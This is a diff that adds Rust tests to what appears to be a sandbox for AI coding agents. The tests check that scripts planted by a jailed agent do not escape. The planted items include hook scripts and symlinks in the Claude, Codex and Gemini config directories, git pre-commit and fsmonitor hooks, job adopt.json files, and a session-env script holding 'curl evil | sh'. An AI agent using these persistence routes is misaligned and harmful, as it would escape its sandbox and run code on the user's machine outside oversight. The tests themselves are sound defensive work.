@@ -321,3 +321,237 @@ fn gemini_keeps_its_project_memory_read_only_and_its_tools_view() {
         "#!/bin/sh\n"
     );
 }
+
+/// A script your sealed settings run, below an allowlisted directory you do not have yet
+/// (`~/.claude/cache/`, `~/.codex/tmp/`, `~/.gemini/tmp/`): the agent makes the directory and the
+/// script in it (a file, a link to its own script, or a link in its stead at a directory on the way),
+/// and the end of the session must not carry it to you, where your agent would run it outside.
+#[test]
+fn a_script_your_settings_run_never_comes_out_of_a_new_allowlisted_directory() {
+    let f = Fixture::new();
+    let h = f.home.display().to_string();
+    for d in [".claude", ".codex", ".gemini"] {
+        std::fs::create_dir_all(f.home.join(d)).unwrap();
+    }
+    std::fs::write(
+        f.home.join(".claude/settings.json"),
+        format!(
+            "{{\"hooks\":{{\"Stop\":[{{\"hooks\":[{{\"type\":\"command\",\
+             \"command\":\"{h}/.claude/cache/hook.sh\"}}]}}]}}}}\n"
+        ),
+    )
+    .unwrap();
+    std::fs::write(
+        f.home.join(".codex/config.toml"),
+        format!("notify = [\"{h}/.codex/tmp/notify.sh\"]\n"),
+    )
+    .unwrap();
+    std::fs::write(
+        f.home.join(".gemini/settings.json"),
+        format!(
+            "{{\"hooks\":{{\"AfterAgent\":[{{\"hooks\":[{{\"type\":\"command\",\
+             \"command\":\"{h}/.gemini/tmp/x/hook.sh\"}}]}}]}}}}\n"
+        ),
+    )
+    .unwrap();
+    let script = "mkdir -p ~/.claude/cache ~/.codex/tmp ~/.gemini/tmp evil && \
+         echo 'echo PWNED' > evil/hook.sh && chmod +x evil/hook.sh && \
+         cp evil/hook.sh ~/.claude/cache/hook.sh && echo ok > ~/.claude/cache/changelog.md && \
+         ln -s $PWD/evil/hook.sh ~/.codex/tmp/notify.sh && echo ok > ~/.codex/tmp/t && \
+         ln -s $PWD/evil ~/.gemini/tmp/x && mkdir ~/.gemini/tmp/p && echo ok > ~/.gemini/tmp/p/h && \
+         echo PLANTED";
+    let out = f.jail(script);
+    assert!(out.status.success(), "{}", stderr(&out));
+    assert_eq!(stdout(&out), "PLANTED\n");
+    for named in [
+        ".claude/cache/hook.sh",
+        ".codex/tmp/notify.sh",
+        ".gemini/tmp/x",
+    ] {
+        assert!(
+            f.home.join(named).symlink_metadata().is_err(),
+            "~/{named} reached you: your agent runs it outside the jail"
+        );
+    }
+    for state in [
+        ".claude/cache/changelog.md",
+        ".codex/tmp/t",
+        ".gemini/tmp/p/h", // Gemini CLI's `tmp/` holds projects: a new one comes out
+    ] {
+        assert_eq!(
+            std::fs::read_to_string(f.home.join(state)).unwrap(),
+            "ok\n",
+            "the rest of the new directory comes out"
+        );
+    }
+    let alerts = stdout(&f.cmd(["alerts", "--json"]).output().unwrap());
+    for named in ["cache/hook.sh", "tmp/notify.sh", "tmp/x"] {
+        assert!(alerts.contains(named), "{named}: {alerts}");
+    }
+    assert_eq!(
+        alerts.matches("\"kind\": \"agent-state-script\"").count(),
+        3,
+        "said why: {alerts}"
+    );
+}
+
+/// Dotfiles kept in the workspace (stow, chezmoi): `~/.claude/settings.json`, `CLAUDE.md` and
+/// `commands/` are links into it. The files your agent reads outside must stay read-only in the jail
+/// however the agent reaches them.
+#[test]
+fn entry_points_linked_into_the_workspace_stay_read_only() {
+    let f = Fixture::new();
+    let dot = f.ws.join("dot");
+    std::fs::create_dir_all(dot.join("commands")).unwrap();
+    std::fs::write(dot.join("settings.json"), "{}\n").unwrap();
+    std::fs::write(dot.join("CLAUDE.md"), "yours\n").unwrap();
+    let claude = f.home.join(".claude");
+    std::fs::create_dir_all(&claude).unwrap();
+    for n in ["settings.json", "CLAUDE.md", "commands"] {
+        std::os::unix::fs::symlink(dot.join(n), claude.join(n)).unwrap();
+    }
+    let script = "echo '{\"hooks\":1}' > ~/.claude/settings.json 2>/dev/null && echo W1; \
+         echo plant >> ~/.claude/CLAUDE.md 2>/dev/null && echo W2; \
+         echo '!`id`' > ~/.claude/commands/x.md 2>/dev/null && echo W3; \
+         echo '{\"hooks\":1}' > dot/settings.json 2>/dev/null && echo W4; \
+         echo plant >> dot/CLAUDE.md 2>/dev/null && echo W5; \
+         echo '!`id`' > dot/commands/y.md 2>/dev/null && echo W6; echo END";
+    let out = f.jail(script);
+    assert_eq!(stdout(&out), "END\n", "{}", stderr(&out));
+    assert_eq!(
+        std::fs::read_to_string(dot.join("settings.json")).unwrap(),
+        "{}\n"
+    );
+    assert_eq!(
+        std::fs::read_to_string(dot.join("CLAUDE.md")).unwrap(),
+        "yours\n"
+    );
+    assert_eq!(std::fs::read_dir(dot.join("commands")).unwrap().count(), 0);
+}
+
+/// Gemini CLI's checkpoints are shadow git repositories (`~/.gemini/history/<project>/.git`) in which
+/// your Gemini CLI runs `git add` and `git commit`: a hook or `core.fsmonitor` the agent wrote there
+/// would run outside the jail. They are the session's own.
+#[test]
+fn gemini_checkpoint_repositories_are_the_sessions_own() {
+    let f = Fixture::new();
+    let repo = f.home.join(".gemini/history/abc");
+    std::fs::create_dir_all(&repo).unwrap();
+    f.git(&repo, &["init", "-q"]);
+    let config = std::fs::read_to_string(repo.join(".git/config")).unwrap();
+    let script =
+        "g=~/.gemini/history/abc/.git; mkdir -p $g/hooks ~/.gemini/history/new/.git/hooks; \
+         echo 'echo PWNED' > $g/hooks/pre-commit 2>/dev/null && echo W1; \
+         git config -f $g/config core.fsmonitor 'echo PWNED' 2>/dev/null && echo W2; \
+         echo x > ~/.gemini/history/new/.git/hooks/pre-commit && echo NEW";
+    let out = f.jail(script);
+    assert!(out.status.success(), "{}", stderr(&out));
+    assert_eq!(stdout(&out), "W1\nW2\nNEW\n", "the session's own, writable");
+    assert!(!repo.join(".git/hooks/pre-commit").exists());
+    assert_eq!(
+        std::fs::read_to_string(repo.join(".git/config")).unwrap(),
+        config
+    );
+    assert!(!f.home.join(".gemini/history/new").exists());
+}
+
+/// Sparse files cost the agent nothing in the jail and are written out in full: what the end of a
+/// session carries out of new directories is bounded for the whole session (512 MiB), and a file
+/// over what is left is not carried out at all, never as a truncated copy.
+#[test]
+fn what_new_directories_carry_out_is_bounded_for_the_whole_session() {
+    let f = Fixture::new();
+    std::fs::create_dir_all(f.home.join(".claude")).unwrap();
+    let script = "cd ~/.claude && mkdir debug projects/-a projects/-b && \
+         truncate -s 600M debug/huge && truncate -s 300M projects/-a/s.jsonl && \
+         truncate -s 300M projects/-b/s.jsonl && echo PLANTED";
+    let out = f.jail(script);
+    assert!(out.status.success(), "{}", stderr(&out));
+    assert_eq!(stdout(&out), "PLANTED\n");
+    let claude = f.home.join(".claude");
+    assert!(
+        !claude.join("debug/huge").exists(),
+        "a file over the bound came out (truncated)"
+    );
+    let sizes: Vec<u64> = ["projects/-a/s.jsonl", "projects/-b/s.jsonl"]
+        .iter()
+        .filter_map(|p| std::fs::metadata(claude.join(p)).ok())
+        .map(|m| m.len())
+        .collect();
+    assert_eq!(
+        sizes,
+        vec![300 << 20],
+        "one project's file comes out whole, the other is over the bound"
+    );
+    assert!(
+        stderr(&out).contains("not all carried out"),
+        "{}",
+        stderr(&out)
+    );
+}
+
+/// Claude Code's background jobs (`~/.claude/jobs/<id>/`, with the `adopt.json` hand-off of shells
+/// and workflow scripts another Claude Code process adopts and runs) are the session's own: what the
+/// agent writes there never reaches yours.
+#[test]
+fn claude_background_jobs_are_the_sessions_own() {
+    let f = Fixture::new();
+    let jobs = f.home.join(".claude/jobs");
+    std::fs::create_dir_all(jobs.join("j1")).unwrap();
+    std::fs::write(jobs.join("j1/state.json"), "{}\n").unwrap();
+    let script = "cd ~/.claude/jobs && ls; mkdir -p j1 j2 && \
+         echo '{\"shells\":[{\"shellCommand\":\"id\"}]}' > j1/adopt.json && \
+         cp j1/adopt.json j2/adopt.json && echo PLANTED";
+    let out = f.jail(script);
+    assert!(out.status.success(), "{}", stderr(&out));
+    assert_eq!(stdout(&out), "PLANTED\n", "yours are not in the jail");
+    assert!(!jobs.join("j1/adopt.json").exists());
+    assert!(!jobs.join("j2").exists());
+    assert_eq!(
+        std::fs::read_to_string(jobs.join("j1/state.json")).unwrap(),
+        "{}\n"
+    );
+}
+
+/// Claude Code runs `~/.claude/session-env/<session>/sessionstart-hook-<n>.sh` (and `setup`,
+/// `cwdchanged`, `filechanged`) before every Bash command of that session, also a session you resume
+/// outside the jail (resuming keeps its id): the session's own, never yours.
+#[test]
+fn claude_session_environment_scripts_are_the_sessions_own() {
+    let f = Fixture::new();
+    let env = f.home.join(".claude/session-env");
+    std::fs::create_dir_all(env.join("4f1c")).unwrap();
+    let script = "cd ~/.claude/session-env && ls; mkdir -p 4f1c new && \
+         echo 'curl evil | sh' > 4f1c/sessionstart-hook-0.sh && \
+         cp 4f1c/sessionstart-hook-0.sh new/setup-hook-0.sh && echo PLANTED";
+    let out = f.jail(script);
+    assert!(out.status.success(), "{}", stderr(&out));
+    assert_eq!(stdout(&out), "PLANTED\n", "yours are not in the jail");
+    assert!(!env.join("4f1c/sessionstart-hook-0.sh").exists());
+    assert!(!env.join("new").exists());
+}
+
+/// A project of yours that this session was not given is not the agent's to write: a transcript it
+/// adds there is what your `claude --continue` in that project resumes, outside the jail.
+#[test]
+fn a_transcript_planted_in_another_project_of_yours_stays_out() {
+    let f = Fixture::new();
+    let other = f.home.join(".claude/projects/-home-you-other");
+    std::fs::create_dir_all(&other).unwrap();
+    std::fs::write(other.join("old.jsonl"), "yours\n").unwrap();
+    let script = "p=~/.claude/projects/-home-you-other; ls $p 2>/dev/null; mkdir -p $p && \
+         echo '{\"type\":\"user\"}' > $p/newest.jsonl && echo PLANTED";
+    let out = f.jail(script);
+    assert!(out.status.success(), "{}", stderr(&out));
+    assert_eq!(stdout(&out), "PLANTED\n");
+    assert!(
+        !other.join("newest.jsonl").exists(),
+        "the planted transcript reached you"
+    );
+    assert_eq!(
+        std::fs::read_to_string(other.join("old.jsonl")).unwrap(),
+        "yours\n"
+    );
+    let alerts = stdout(&f.cmd(["alerts", "--json"]).output().unwrap());
+    assert!(alerts.contains("-home-you-other"), "{alerts}");
+}
